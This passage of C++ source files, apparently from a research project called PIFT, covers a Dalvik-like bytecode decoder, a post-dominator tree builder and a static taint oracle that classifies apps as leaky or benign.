        result.block_in[cfg.catch_block] = problem.boundary();

    std::vector<bool> queued(cfg.blocks.size(), false);
    std::vector<size_t> work;
    auto enqueue = [&](size_t b) {
        if (!queued[b]) {
            queued[b] = true;
            work.push_back(b);
        }
    };
    enqueue(cfg.entry_block);
    if (cfg.catch_block != Cfg::npos)
        enqueue(cfg.catch_block);

    while (!work.empty()) {
        size_t b = work.back();
        work.pop_back();
        queued[b] = false;

        State state = result.block_in[b];
        const BasicBlock &bb = cfg.blocks[b];
        if constexpr (requires { problem.enterBlock(size_t{}); })
            problem.enterBlock(b);
        for (size_t k = 0; k < bb.count; ++k) {
            // The catch entry can be reached from mid-block, so feed
            // its in-state from every reachable block's entry state.
            if (cfg.catch_block != Cfg::npos && b != cfg.catch_block &&
                k == 0) {
                if (problem.merge(result.block_in[cfg.catch_block],
                                  state))
                    enqueue(cfg.catch_block);
            }
            problem.transfer(state, cfg.inst(bb, k));
        }
        result.block_out[b] = state;

        for (size_t s : bb.succs)
            if (problem.merge(result.block_in[s], state))
                enqueue(s);
    }

    return result;
}

} // namespace pift::static_analysis

#endif // PIFT_STATIC_DATAFLOW_HH
