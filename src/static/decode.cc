#include "static/decode.hh"

namespace pift::static_analysis
{

using dalvik::Bc;
using dalvik::Format;

bool
DecodedInst::isBranch() const
{
    switch (bc) {
      case Bc::Goto:
      case Bc::IfEq:
      case Bc::IfNe:
      case Bc::IfLt:
      case Bc::IfGe:
      case Bc::IfGt:
      case Bc::IfLe:
      case Bc::IfEqz:
      case Bc::IfNez:
      case Bc::IfLtz:
      case Bc::IfGez:
        return true;
      default:
        return false;
    }
}

bool
DecodedInst::fallsThrough() const
{
    switch (bc) {
      case Bc::Goto:
      case Bc::ReturnVoid:
      case Bc::Return:
      case Bc::ReturnObject:
      case Bc::Throw:
        return false;
      default:
        return true;
    }
}

DecodeError
decodeAt(const std::vector<uint16_t> &code, size_t at,
         DecodedInst &out)
{
    if (at >= code.size())
        return DecodeError::Truncated;

    uint16_t unit0 = code[at];
    auto op = static_cast<unsigned>(unit0 & 0xff);
    if (op >= dalvik::num_bytecodes)
        return DecodeError::BadOpcode;

    auto bc = static_cast<Bc>(op);
    unsigned units = dalvik::unitCount(bc);
    if (at + units > code.size())
        return DecodeError::Truncated;

    out = DecodedInst{};
    out.bc = bc;
    out.fmt = dalvik::format(bc);
    out.unit = at;
    out.units = units;

    auto a4 = static_cast<uint16_t>((unit0 >> 8) & 0xf);
    auto b4 = static_cast<uint16_t>(unit0 >> 12);
    auto aa = static_cast<uint16_t>(unit0 >> 8);
    uint16_t u1 = units > 1 ? code[at + 1] : 0;
    uint16_t u2 = units > 2 ? code[at + 2] : 0;

    auto use = [&out](uint16_t r) { out.uses.push_back(r); };
    auto def = [&out](uint16_t r) { out.defs.push_back(r); };

    switch (bc) {
      case Bc::Nop:
      case Bc::ReturnVoid:
        break;

      case Bc::Move:
      case Bc::MoveObject:
      case Bc::ArrayLength:
      case Bc::IntToChar:
      case Bc::IntToByte:
      case Bc::IntToFloat:
      case Bc::FloatToInt:
        def(a4);
        use(b4);
        break;

      case Bc::MoveWide:
        def(a4);
        def(static_cast<uint16_t>(a4 + 1));
        use(b4);
        use(static_cast<uint16_t>(b4 + 1));
        break;

      case Bc::MoveFrom16:
        def(aa);
        use(u1);
        break;

      case Bc::MoveResult:
      case Bc::MoveResultObject:
      case Bc::MoveException:
        def(aa);
        break;

      case Bc::Return:
      case Bc::ReturnObject:
      case Bc::Throw:
        use(aa);
        break;

      case Bc::Const4:
        def(a4);
        out.literal = static_cast<int32_t>(b4 << 28) >> 28;
        break;

      case Bc::Const16:
        def(aa);
        out.literal = static_cast<int16_t>(u1);
        break;

      case Bc::ConstString:
      case Bc::NewInstance:
      case Bc::Sget:
      case Bc::SgetObject:
        def(aa);
        out.index = u1;
        break;

      case Bc::CheckCast:
      case Bc::Sput:
      case Bc::SputObject:
        use(aa);
        out.index = u1;
        break;

      case Bc::NewArray:
        def(a4);
        use(b4);
        out.index = u1;
        break;

      case Bc::Iget:
      case Bc::IgetObject:
        def(a4);
        use(b4);
        out.index = u1;
        break;

      case Bc::Iput:
      case Bc::IputObject:
        use(a4);
        use(b4);
        out.index = u1;
        break;

      case Bc::Aget:
      case Bc::AgetChar:
      case Bc::AgetObject:
        def(aa);
        use(static_cast<uint16_t>(u1 & 0xff));
        use(static_cast<uint16_t>(u1 >> 8));
        break;

      case Bc::Aput:
      case Bc::AputChar:
      case Bc::AputObject:
        use(aa);
        use(static_cast<uint16_t>(u1 & 0xff));
        use(static_cast<uint16_t>(u1 >> 8));
        break;

      case Bc::InvokeVirtual:
      case Bc::InvokeStatic:
      case Bc::InvokeDirect:
        out.invoke_target = u1;
        out.first_arg = u2;
        out.argc = static_cast<uint8_t>(aa);
        for (unsigned k = 0; k < out.argc; ++k)
            use(static_cast<uint16_t>(u2 + k));
        break;

      case Bc::Goto:
        out.branch_offset = static_cast<int8_t>(aa);
        break;

      case Bc::IfEq:
      case Bc::IfNe:
      case Bc::IfLt:
      case Bc::IfGe:
      case Bc::IfGt:
      case Bc::IfLe:
        use(a4);
        use(b4);
        out.branch_offset = static_cast<int16_t>(u1);
        break;

      case Bc::IfEqz:
      case Bc::IfNez:
      case Bc::IfLtz:
      case Bc::IfGez:
        use(aa);
        out.branch_offset = static_cast<int16_t>(u1);
        break;

      case Bc::AddInt:
      case Bc::SubInt:
      case Bc::MulInt:
      case Bc::DivInt:
      case Bc::RemInt:
      case Bc::AndInt:
      case Bc::OrInt:
      case Bc::XorInt:
      case Bc::ShlInt:
      case Bc::ShrInt:
        def(aa);
        use(static_cast<uint16_t>(u1 & 0xff));
        use(static_cast<uint16_t>(u1 >> 8));
        break;

      case Bc::AddLong:
      case Bc::MulLong:
        def(aa);
        def(static_cast<uint16_t>(aa + 1));
        use(static_cast<uint16_t>(u1 & 0xff));
        use(static_cast<uint16_t>((u1 & 0xff) + 1));
        use(static_cast<uint16_t>(u1 >> 8));
        use(static_cast<uint16_t>((u1 >> 8) + 1));
        break;

      case Bc::AddInt2Addr:
      case Bc::SubInt2Addr:
      case Bc::MulInt2Addr:
      case Bc::DivInt2Addr:
      case Bc::AndInt2Addr:
      case Bc::OrInt2Addr:
      case Bc::XorInt2Addr:
      case Bc::AddFloat2Addr:
      case Bc::MulFloat2Addr:
      case Bc::DivFloat2Addr:
        def(a4);
        use(a4);
        use(b4);
        break;

      case Bc::AddIntLit8:
      case Bc::MulIntLit8:
        def(aa);
        use(static_cast<uint16_t>(u1 & 0xff));
        out.literal = static_cast<int8_t>(u1 >> 8);
        break;

      case Bc::NumBcs:
        return DecodeError::BadOpcode;
    }

    return DecodeError::None;
}

std::vector<DecodedInst>
decodeAll(const std::vector<uint16_t> &code, DecodeError *error,
          size_t *error_unit)
{
    std::vector<DecodedInst> insts;
    if (error)
        *error = DecodeError::None;
    size_t at = 0;
    while (at < code.size()) {
        DecodedInst inst;
        DecodeError err = decodeAt(code, at, inst);
        if (err != DecodeError::None) {
            if (error)
                *error = err;
            if (error_unit)
                *error_unit = at;
            break;
        }
        insts.push_back(std::move(inst));
        at += inst.units;
    }
    return insts;
}

} // namespace pift::static_analysis
