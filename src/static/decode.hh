/**
 * @file
 * Structured decoder for the Dalvik-like bytecode encoding.
 *
 * The disassembler and the VM decode operands inline; the static
 * subsystem needs the same information as data, with explicit error
 * reporting instead of panics (the verifier decodes hostile input).
 * A DecodedInst normalises every operand format family into register
 * lists, literals and branch targets, so the CFG builder, the
 * verifier and the taint analysis share one decode path.
 */

#ifndef PIFT_STATIC_DECODE_HH
#define PIFT_STATIC_DECODE_HH

#include <cstddef>
#include <cstdint>
#include <vector>

#include "dalvik/bytecode.hh"

namespace pift::static_analysis
{

/** Why a decode attempt failed. */
enum class DecodeError : uint8_t
{
    None = 0,
    BadOpcode,    //!< opcode byte >= num_bytecodes
    Truncated     //!< instruction extends past the end of the code
};

/** One decoded instruction with format-normalised operands. */
struct DecodedInst
{
    dalvik::Bc bc = dalvik::Bc::Nop;
    dalvik::Format fmt = dalvik::Format::F10x;
    size_t unit = 0;          //!< unit index of the first code unit
    unsigned units = 1;       //!< code units occupied

    /**
     * Virtual registers read / written by the instruction. Invoke
     * argument ranges expand into individual registers. Wide
     * operands (move-wide, add-long, mul-long) list both halves of
     * each pair.
     */
    std::vector<uint16_t> uses;
    std::vector<uint16_t> defs;

    int32_t literal = 0;      //!< F11n/F21s/F22b immediate
    uint16_t index = 0;       //!< pool/class/field/static/method index
    int32_t branch_offset = 0;//!< signed units, branch instructions

    /** Invoke decoration (F3rc only). */
    uint16_t invoke_target = 0; //!< method id or vtable slot
    uint16_t first_arg = 0;     //!< first argument vreg
    uint8_t argc = 0;           //!< argument word count

    /** True for the conditional/unconditional branch families. */
    bool isBranch() const;
    /** True when control can continue to the next instruction. */
    bool fallsThrough() const;
    /** Absolute target unit of a branch instruction. */
    size_t targetUnit() const
    {
        return static_cast<size_t>(static_cast<int64_t>(unit) +
                                   branch_offset);
    }
};

/**
 * Decode the instruction starting at @p at.
 *
 * @return DecodeError::None on success (then @p out is valid)
 */
DecodeError decodeAt(const std::vector<uint16_t> &code, size_t at,
                     DecodedInst &out);

/**
 * Decode a whole method body. Stops at the first malformed
 * instruction (reported through @p error and @p error_unit when
 * non-null).
 */
std::vector<DecodedInst>
decodeAll(const std::vector<uint16_t> &code,
          DecodeError *error = nullptr, size_t *error_unit = nullptr);

} // namespace pift::static_analysis

#endif // PIFT_STATIC_DECODE_HH
