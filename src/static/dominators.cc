#include "static/dominators.hh"

#include <algorithm>

namespace pift::static_analysis
{

bool
PostDomTree::postDominates(size_t a, size_t b) const
{
    if (a == b)
        return true;
    if (b >= ipdom.size() && b != exit_id)
        return false;
    if (b == exit_id)
        return a == exit_id;
    // Walk b's ipdom chain toward the virtual exit.
    size_t w = ipdom[b];
    while (w != npos) {
        if (w == a)
            return true;
        if (w == exit_id)
            return false;
        w = ipdom[w];
    }
    return false;
}

PostDomTree
buildPostDomTree(const Cfg &cfg)
{
    PostDomTree tree;
    const size_t n = cfg.blocks.size();
    tree.exit_id = n;
    tree.ipdom.assign(n, PostDomTree::npos);
    if (n == 0)
        return tree;

    for (size_t b = 0; b < n; ++b)
        if (cfg.blocks[b].succs.empty())
            tree.exit_blocks.push_back(b);

    // Reverse CFG: nodes 0..n-1 plus the virtual exit at n; edges are
    // successor -> predecessor, and exit -> each exit block.
    auto rsuccs = [&](size_t v) -> std::vector<size_t> {
        if (v == tree.exit_id)
            return tree.exit_blocks;
        return cfg.blocks[v].preds;
    };

    // Post-order DFS over the reverse CFG from the virtual exit.
    // Only nodes reachable here (i.e. blocks that can reach an exit)
    // get post-dominator information.
    std::vector<size_t> postorder;
    std::vector<uint8_t> visited(n + 1, 0);
    {
        // Iterative DFS: (node, next child index) frames.
        std::vector<std::pair<size_t, size_t>> stack;
        stack.emplace_back(tree.exit_id, 0);
        visited[tree.exit_id] = 1;
        while (!stack.empty()) {
            auto &[v, child] = stack.back();
            auto succs = rsuccs(v);
            if (child < succs.size()) {
                size_t next = succs[child++];
                if (!visited[next]) {
                    visited[next] = 1;
                    stack.emplace_back(next, 0);
                }
            } else {
                postorder.push_back(v);
                stack.pop_back();
            }
        }
    }

    std::vector<size_t> po_index(n + 1, PostDomTree::npos);
    for (size_t k = 0; k < postorder.size(); ++k)
        po_index[postorder[k]] = k;

    // Cooper-Harvey-Kennedy: idom over the reverse graph, processed
    // in reverse post-order, intersecting along ipdom chains.
    std::vector<size_t> idom(n + 1, PostDomTree::npos);
    idom[tree.exit_id] = tree.exit_id;

    auto intersect = [&](size_t a, size_t b) {
        while (a != b) {
            while (po_index[a] < po_index[b])
                a = idom[a];
            while (po_index[b] < po_index[a])
                b = idom[b];
        }
        return a;
    };

    bool changed = true;
    while (changed) {
        changed = false;
        for (size_t k = postorder.size(); k-- > 0;) {
            size_t v = postorder[k];
            if (v == tree.exit_id)
                continue;
            // Predecessors of v in the reverse graph are v's CFG
            // successors, plus the virtual exit when v is an exit
            // block (succs empty — then exit is the only one).
            size_t new_idom = PostDomTree::npos;
            if (cfg.blocks[v].succs.empty()) {
                new_idom = tree.exit_id;
            } else {
                for (size_t s : cfg.blocks[v].succs) {
                    if (idom[s] == PostDomTree::npos)
                        continue; // not yet processed / no exit path
                    new_idom = new_idom == PostDomTree::npos
                        ? s
                        : intersect(new_idom, s);
                }
            }
            if (new_idom != PostDomTree::npos &&
                idom[v] != new_idom) {
                idom[v] = new_idom;
                changed = true;
            }
        }
    }

    for (size_t b = 0; b < n; ++b)
        tree.ipdom[b] = idom[b];
    return tree;
}

} // namespace pift::static_analysis
