/**
 * @file
 * Post-dominator tree over a Cfg.
 *
 * Every exit block (no successors: return, throw, or a fall-off-end
 * tail) is wired to one virtual exit node so methods with several
 * returns share a single tree root. The immediate post-dominators are
 * computed with the iterative Cooper-Harvey-Kennedy solver on the
 * reverse CFG in reverse post-order — simple, and on our method-sized
 * graphs faster than Lengauer-Tarjan.
 *
 * Blocks from which no exit is reachable (an infinite loop, or code
 * unreachable from both entries) carry no post-dominator information:
 * their ipdom is npos and postDominates() is false for them except
 * reflexively. The randomized differential in
 * tests/test_static_dominators.cc pins this solver against the
 * brute-force definition ("appears on every exit-reaching path").
 */

#ifndef PIFT_STATIC_DOMINATORS_HH
#define PIFT_STATIC_DOMINATORS_HH

#include <cstddef>
#include <vector>

#include "static/cfg.hh"

namespace pift::static_analysis
{

/** Post-dominator tree of one Cfg, rooted at a virtual exit. */
struct PostDomTree
{
    static constexpr size_t npos = static_cast<size_t>(-1);

    /** Node id of the virtual exit (== cfg.blocks.size()). */
    size_t exit_id = 0;

    /**
     * Immediate post-dominator per block; exit_id for blocks whose
     * only proper post-dominator is the virtual exit, npos for blocks
     * that cannot reach any exit.
     */
    std::vector<size_t> ipdom;

    /** Blocks with no successors (wired to the virtual exit). */
    std::vector<size_t> exit_blocks;

    /** True when @p a post-dominates @p b (reflexive). */
    bool postDominates(size_t a, size_t b) const;

    /** True when block @p b has post-dominator information. */
    bool reachesExit(size_t b) const
    {
        return b < ipdom.size() && ipdom[b] != npos;
    }
};

/** Build the post-dominator tree of @p cfg. */
PostDomTree buildPostDomTree(const Cfg &cfg);

} // namespace pift::static_analysis

#endif // PIFT_STATIC_DOMINATORS_HH
