#include "static/oracle.hh"

#include <algorithm>

#include "static/cfg.hh"
#include "static/control_dep.hh"
#include "static/dataflow.hh"
#include "static/dominators.hh"

namespace pift::static_analysis
{

using dalvik::Bc;
using dalvik::ClassId;
using dalvik::MethodId;

bool
AbstractValue::merge(const AbstractValue &other)
{
    bool changed = false;
    if (other.taint && !taint) {
        taint = true;
        changed = true;
    }
    for (ClassId cls : other.pts)
        changed |= pts.insert(cls).second;
    return changed;
}

namespace
{

/** Dataflow state: one value per vreg plus the retval slot. */
struct OracleState
{
    bool valid = false;
    std::vector<AbstractValue> regs;
    AbstractValue retval;
};

struct MethodInfo
{
    std::vector<AbstractValue> args_in;
    AbstractValue ret;
    bool analyzing = false;
    bool analyzed = false;
    bool dirty = true;
    Cfg cfg;
    bool cfg_built = false;
    // Implicit mode only: control structure plus the monotone set of
    // blocks whose terminating branch condition was seen tainted.
    PostDomTree pdt;
    ControlDeps cdeps;
    bool deps_built = false;
    std::vector<uint8_t> branch_taint;
};

class Oracle
{
  public:
    Oracle(const dalvik::Dex &dex, const OracleConfig &config,
           OracleMode mode)
        : dex(dex), config(config), mode(mode)
    {}

    OracleResult
    run(MethodId main)
    {
        OracleResult result;
        result.mode = mode;
        for (unsigned iter = 0; iter < max_outer_iterations; ++iter) {
            result.outer_iterations = iter + 1;
            changed = false;
            for (auto &[id, info] : methods)
                info.dirty = true;
            analyzeMethod(main);
            if (!changed)
                break;
        }
        result.leaks = !leak_sinks.empty();
        for (MethodId sink : leak_sinks)
            result.leak_sinks.push_back(dex.method(sink).name);
        std::sort(result.leak_sinks.begin(), result.leak_sinks.end());
        for (const auto &[id, mi] : methods)
            for (uint8_t bt : mi.branch_taint)
                result.tainted_branches += bt;
        return result;
    }

  private:
    static constexpr unsigned max_outer_iterations = 64;

    const dalvik::Dex &dex;
    const OracleConfig &config;
    const OracleMode mode;

    std::map<MethodId, MethodInfo> methods;
    std::map<uint16_t, AbstractValue> statics;
    std::map<std::pair<ClassId, uint16_t>, AbstractValue> fields;
    std::map<ClassId, AbstractValue> elems;
    AbstractValue exception;
    bool unknown_heap_tainted = false;
    std::set<MethodId> leak_sinks;
    bool changed = false;

    friend struct OracleProblem;

    void note(bool grew) { changed |= grew; }

    /**
     * Transitive taint over a value's reachable heap: its own bit,
     * plus the field and element summaries of every class reachable
     * from its points-to set.
     */
    bool
    deepTaint(const AbstractValue &value) const
    {
        if (value.taint)
            return true;
        std::set<ClassId> visited;
        std::vector<ClassId> work(value.pts.begin(), value.pts.end());
        while (!work.empty()) {
            ClassId cls = work.back();
            work.pop_back();
            if (!visited.insert(cls).second)
                continue;
            for (const auto &[key, summary] : fields) {
                if (key.first != cls)
                    continue;
                if (summary.taint)
                    return true;
                work.insert(work.end(), summary.pts.begin(),
                            summary.pts.end());
            }
            auto it = elems.find(cls);
            if (it != elems.end()) {
                if (it->second.taint)
                    return true;
                work.insert(work.end(), it->second.pts.begin(),
                            it->second.pts.end());
            }
        }
        return false;
    }

    MethodInfo &
    info(MethodId id)
    {
        MethodInfo &mi = methods[id];
        if (!mi.cfg_built && !dex.method(id).is_native) {
            mi.cfg = buildCfg(dex.method(id));
            mi.cfg_built = true;
            mi.args_in.resize(dex.method(id).nins);
        }
        if (mi.args_in.size() < dex.method(id).nins)
            mi.args_in.resize(dex.method(id).nins);
        if (mode == OracleMode::Implicit && mi.cfg_built &&
            !mi.deps_built) {
            mi.pdt = buildPostDomTree(mi.cfg);
            mi.cdeps = buildControlDeps(mi.cfg, mi.pdt);
            mi.branch_taint.assign(mi.cfg.blocks.size(), 0);
            mi.deps_built = true;
        }
        return mi;
    }

    void analyzeMethod(MethodId id);

    /** Model the call `target(args...)`; returns the abstract result. */
    AbstractValue
    call(MethodId target, const std::vector<AbstractValue> &args)
    {
        const dalvik::Method &m = dex.method(target);
        if (m.is_native)
            return callNative(target, args);

        MethodInfo &mi = info(target);
        for (size_t k = 0; k < args.size() && k < mi.args_in.size();
             ++k) {
            bool grew = mi.args_in[k].merge(args[k]);
            if (grew)
                mi.dirty = true;
            note(grew);
        }
        analyzeMethod(target);
        return mi.ret;
    }

    AbstractValue
    callNative(MethodId target, const std::vector<AbstractValue> &args)
    {
        NativeModel model; // Passthrough default
        auto it = config.natives.find(target);
        if (it != config.natives.end())
            model = it->second;

        AbstractValue ret;
        ret.pts = model.ret_pts;

        auto anyDeepTaint = [&] {
            for (const AbstractValue &a : args)
                if (deepTaint(a))
                    return true;
            return false;
        };

        switch (model.kind) {
          case NativeModel::Kind::Passthrough:
            ret.taint = anyDeepTaint();
            break;

          case NativeModel::Kind::Source:
            ret.taint = true;
            break;

          case NativeModel::Kind::Sink:
            if (anyDeepTaint())
                note(leak_sinks.insert(target).second);
            break;

          case NativeModel::Kind::Alloc:
            break;

          case NativeModel::Kind::SbInit:
            for (ClassId cls : model.ret_pts)
                note(fields[{cls, config.sb_buf_offset}].pts
                         .insert(config.char_array_cls)
                         .second);
            break;

          case NativeModel::Kind::SbAppend:
            if (args.size() >= 2 && deepTaint(args[1]))
                for (ClassId cls : args[0].pts) {
                    AbstractValue t;
                    t.taint = true;
                    note(fields[{cls, config.sb_buf_offset}].merge(t));
                }
            if (!args.empty())
                ret.merge(args[0]); // append returns the builder
            break;

          case NativeModel::Kind::ArrayCopy: {
            if (args.size() < 3)
                break;
            AbstractValue moved;
            moved.taint = deepTaint(args[0]);
            for (ClassId cls : args[0].pts) {
                auto elem = elems.find(cls);
                if (elem != elems.end())
                    moved.merge(elem->second);
            }
            for (ClassId cls : args[2].pts)
                note(elems[cls].merge(moved));
            if (args[2].pts.empty())
                noteUnknownHeap(moved.taint);
            break;
          }

          case NativeModel::Kind::IntentPut:
            if (args.size() >= 3)
                for (ClassId cls : args[0].pts)
                    note(fields[{cls, 0}].merge(args[2]));
            break;

          case NativeModel::Kind::IntentGet:
            if (!args.empty()) {
                for (ClassId cls : args[0].pts)
                    ret.merge(fields[{cls, 0}]);
                ret.taint |= args[0].taint;
            }
            break;

          case NativeModel::Kind::HandlerPost:
            if (!args.empty())
                for (ClassId cls : args[0].pts) {
                    const dalvik::ClassInfo &ci = dex.classInfo(cls);
                    if (!ci.vtable.empty())
                        call(ci.vtable[0], {args[0]});
                }
            break;
        }
        return ret;
    }

    void
    noteUnknownHeap(bool taint)
    {
        if (taint && !unknown_heap_tainted) {
            unknown_heap_tainted = true;
            changed = true;
        }
    }

    struct OracleProblem;
};

struct Oracle::OracleProblem
{
    using State = OracleState;

    Oracle &oracle;
    MethodId id;
    uint16_t nregs;
    uint16_t nins;
    size_t cur_block = 0;

    void enterBlock(size_t b) { cur_block = b; }

    /**
     * Implicit mode: is the current block inside a region whose
     * execution a tainted branch condition (transitively) decides?
     */
    bool
    ctrlTaint() const
    {
        if (oracle.mode != OracleMode::Implicit)
            return false;
        const MethodInfo &mi = oracle.methods.at(id);
        if (!mi.deps_built ||
            cur_block >= mi.cdeps.transitive.size())
            return false;
        for (size_t c : mi.cdeps.transitive[cur_block])
            if (mi.branch_taint[c])
                return true;
        return false;
    }

    State
    boundary() const
    {
        State s;
        s.valid = true;
        s.regs.resize(nregs);
        const MethodInfo &mi = oracle.methods.at(id);
        for (size_t k = 0; k < mi.args_in.size() && k < nins; ++k)
            s.regs[nregs - nins + k] = mi.args_in[k];
        return s;
    }

    static bool
    merge(State &into, const State &in)
    {
        if (!in.valid)
            return false;
        if (!into.valid) {
            into = in;
            return true;
        }
        bool changed = false;
        for (size_t r = 0; r < into.regs.size(); ++r)
            changed |= into.regs[r].merge(in.regs[r]);
        changed |= into.retval.merge(in.retval);
        return changed;
    }

    void
    transfer(State &s, const DecodedInst &inst) const
    {
        auto reg = [&s](uint16_t r) -> AbstractValue & {
            return s.regs[r];
        };
        auto joinUses = [&] {
            AbstractValue v;
            for (uint16_t r : inst.uses)
                v.merge(s.regs[r]);
            return v;
        };

        // Implicit mode: a conditional branch publishes its
        // condition's taint as the control context of every block it
        // (transitively) decides. The set is monotone; growth dirties
        // the method so the outer fixpoint re-runs it.
        const bool ctrl = ctrlTaint();
        if (oracle.mode == OracleMode::Implicit && inst.isBranch() &&
            inst.fallsThrough() && joinUses().taint) {
            MethodInfo &mi = oracle.methods.at(id);
            if (mi.deps_built &&
                cur_block < mi.branch_taint.size() &&
                !mi.branch_taint[cur_block]) {
                mi.branch_taint[cur_block] = 1;
                mi.dirty = true;
                oracle.note(true);
            }
        }
        // Join the control context into primitive values only (empty
        // points-to set): a reference selected under a secret branch
        // moves no secret bytes into the payload a sink inspects,
        // mirroring the dynamic tracker's payload-granular verdicts.
        auto joinCtrl = [&](AbstractValue &v) {
            if (ctrl && v.pts.empty())
                v.taint = true;
        };

        switch (inst.bc) {
          case Bc::Const4:
          case Bc::Const16: {
            AbstractValue v;
            joinCtrl(v);
            reg(inst.defs[0]) = v;
            break;
          }

          case Bc::ConstString: {
            AbstractValue v;
            v.pts.insert(oracle.dex.stringClass());
            reg(inst.defs[0]) = v;
            break;
          }

          case Bc::NewInstance:
          case Bc::NewArray: {
            AbstractValue v;
            v.pts.insert(inst.index);
            reg(inst.defs[0]) = v;
            break;
          }

          case Bc::MoveResult:
          case Bc::MoveResultObject: {
            AbstractValue v = s.retval;
            joinCtrl(v);
            reg(inst.defs[0]) = v;
            break;
          }

          case Bc::MoveException: {
            AbstractValue v = oracle.exception;
            joinCtrl(v);
            reg(inst.defs[0]) = v;
            break;
          }

          case Bc::Throw: {
            AbstractValue v = reg(inst.uses[0]);
            joinCtrl(v);
            oracle.note(oracle.exception.merge(v));
            break;
          }

          case Bc::Return:
          case Bc::ReturnObject: {
            AbstractValue v = reg(inst.uses[0]);
            joinCtrl(v);
            oracle.note(oracle.methods.at(id).ret.merge(v));
            break;
          }

          case Bc::Iget:
          case Bc::IgetObject: {
            const AbstractValue &base = reg(inst.uses[0]);
            AbstractValue v;
            for (ClassId cls : base.pts) {
                auto it = oracle.fields.find({cls, inst.index});
                if (it != oracle.fields.end())
                    v.merge(it->second);
            }
            // Loading through a tainted ref yields tainted data.
            v.taint |= base.taint;
            if (base.pts.empty())
                v.taint |= oracle.unknown_heap_tainted;
            joinCtrl(v);
            reg(inst.defs[0]) = v;
            break;
          }

          case Bc::Iput:
          case Bc::IputObject: {
            AbstractValue value = reg(inst.uses[0]);
            joinCtrl(value);
            const AbstractValue &base = reg(inst.uses[1]);
            for (ClassId cls : base.pts)
                oracle.note(
                    oracle.fields[{cls, inst.index}].merge(value));
            if (base.pts.empty())
                oracle.noteUnknownHeap(value.taint);
            break;
          }

          case Bc::Sget:
          case Bc::SgetObject: {
            AbstractValue v = oracle.statics[inst.index];
            joinCtrl(v);
            reg(inst.defs[0]) = v;
            break;
          }

          case Bc::Sput:
          case Bc::SputObject: {
            AbstractValue value = reg(inst.uses[0]);
            joinCtrl(value);
            oracle.note(oracle.statics[inst.index].merge(value));
            break;
          }

          case Bc::Aget:
          case Bc::AgetChar:
          case Bc::AgetObject: {
            const AbstractValue &base = reg(inst.uses[0]);
            AbstractValue v;
            for (ClassId cls : base.pts) {
                auto it = oracle.elems.find(cls);
                if (it != oracle.elems.end())
                    v.merge(it->second);
            }
            v.taint |= base.taint;
            if (base.pts.empty())
                v.taint |= oracle.unknown_heap_tainted;
            joinCtrl(v);
            reg(inst.defs[0]) = v;
            break;
          }

          case Bc::Aput:
          case Bc::AputChar:
          case Bc::AputObject: {
            AbstractValue value = reg(inst.uses[0]);
            joinCtrl(value);
            const AbstractValue &base = reg(inst.uses[1]);
            for (ClassId cls : base.pts)
                oracle.note(oracle.elems[cls].merge(value));
            if (base.pts.empty())
                oracle.noteUnknownHeap(value.taint);
            break;
          }

          case Bc::InvokeStatic:
          case Bc::InvokeDirect: {
            std::vector<AbstractValue> args;
            for (uint16_t r : inst.uses)
                args.push_back(s.regs[r]);
            for (AbstractValue &a : args)
                joinCtrl(a);
            s.retval = oracle.call(inst.invoke_target, args);
            break;
          }

          case Bc::InvokeVirtual: {
            std::vector<AbstractValue> args;
            for (uint16_t r : inst.uses)
                args.push_back(s.regs[r]);
            for (AbstractValue &a : args)
                joinCtrl(a);
            AbstractValue result;
            if (!args.empty()) {
                for (ClassId cls : args[0].pts) {
                    const dalvik::ClassInfo &ci =
                        oracle.dex.classInfo(cls);
                    if (inst.invoke_target < ci.vtable.size())
                        result.merge(oracle.call(
                            ci.vtable[inst.invoke_target], args));
                }
                // With no points-to info, be conservative: the result
                // carries whatever taint the arguments carry.
                if (args[0].pts.empty())
                    for (const AbstractValue &a : args)
                        result.taint |= oracle.deepTaint(a);
            }
            s.retval = result;
            break;
          }

          default:
            // Moves, arithmetic, conversions, array-length: the
            // result derives from the used registers (taint union,
            // points-to union). Compares/branches/goto/nop define
            // nothing and fall out with empty defs.
            if (!inst.defs.empty()) {
                AbstractValue v = joinUses();
                joinCtrl(v);
                for (uint16_t r : inst.defs)
                    reg(r) = v;
            }
            break;
        }
    }
};

void
Oracle::analyzeMethod(MethodId id)
{
    MethodInfo &mi = info(id);
    if (dex.method(id).is_native)
        return;
    if (mi.analyzing)
        return; // recursive cycle: use the current summary
    if (mi.analyzed && !mi.dirty)
        return;
    mi.analyzing = true;
    mi.dirty = false;

    OracleProblem problem{*this, id, dex.method(id).nregs,
                          dex.method(id).nins};
    solveForward(mi.cfg, problem);

    mi.analyzing = false;
    mi.analyzed = true;
}

} // anonymous namespace

OracleResult
runOracle(const dalvik::Dex &dex, MethodId main,
          const OracleConfig &config, OracleMode mode)
{
    Oracle oracle(dex, config, mode);
    return oracle.run(main);
}

} // namespace pift::static_analysis
