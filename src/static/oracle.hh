/**
 * @file
 * Static source->sink taint oracle over registered bytecode.
 *
 * A whole-program forward taint analysis that classifies an app as
 * leaky or benign without executing it — the independent check the
 * dynamic PIFT verdicts are cross-validated against. The abstract
 * domain per virtual register is (tainted?, points-to class set);
 * globals are flow-insensitive monotone summaries: one value per
 * static field, one per (class, field offset), one per class's array
 * elements, one for the pending-exception slot, and an unknown-heap
 * bit for stores through refs with no points-to information.
 *
 * Methods are analyzed flow-sensitively (the CFG fixpoint of
 * dataflow.hh) and composed context-insensitively: each callee
 * accumulates the join of its argument values over every call site
 * and exports one return summary. An outer fixpoint re-analyzes until
 * globals and summaries stabilise.
 *
 * The key propagation rule mirrors dynamic PIFT's behaviour on
 * reference-typed data: loading through a tainted base reference
 * yields tainted data (the string's characters are reached through
 * the tainted String ref). Control dependence is NOT tracked — an
 * explicit-flow analysis cannot see the Section 4.2 implicit-flow
 * obfuscator, which is exactly the soundness gap the dynamic
 * tainting-window heuristic closes; see DESIGN.md.
 */

#ifndef PIFT_STATIC_ORACLE_HH
#define PIFT_STATIC_ORACLE_HH

#include <cstdint>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "dalvik/method.hh"

namespace pift::static_analysis
{

/** Abstract value of one virtual register / one heap summary slot. */
struct AbstractValue
{
    bool taint = false;
    std::set<dalvik::ClassId> pts;

    /** Join @p other in; true when this value grew. */
    bool merge(const AbstractValue &other);
};

/** How the oracle models one native method. */
struct NativeModel
{
    enum class Kind : uint8_t
    {
        Passthrough, //!< ret = deep taint over all arguments (default)
        Source,      //!< ret tainted
        Sink,        //!< any deep-tainted argument is a leak
        Alloc,       //!< ret = fresh object of ret_pts, untainted
        SbInit,      //!< Alloc + points the buf field at char[]
        SbAppend,    //!< taints arg0's field summary from arg1
        ArrayCopy,   //!< element summary transfer arg0 -> arg2
